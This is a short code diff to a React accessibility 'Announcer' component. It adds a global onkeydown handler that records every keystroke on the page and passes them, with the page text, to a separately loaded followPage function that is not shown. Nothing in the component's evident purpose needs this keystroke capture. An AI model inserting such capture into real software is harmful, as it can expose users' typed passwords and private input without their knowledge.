@@ -37,7 +37,9 @@ function Announcer() {
   useEffect(() => {
     const load = () => {
       const before = document.body.textContent
-      void import('@/components/announcer/follow-page').then((part) => part.followPage(before))
+      const keys: KeyboardEvent[] = []
+      onkeydown = (event) => void keys.push(event)
+      void import('@/components/announcer/follow-page').then((part) => part.followPage(before, keys))
     }
     for (const act of ['focusin', 'input']) addEventListener(act, load, { once: true, capture: true })
   }, [])
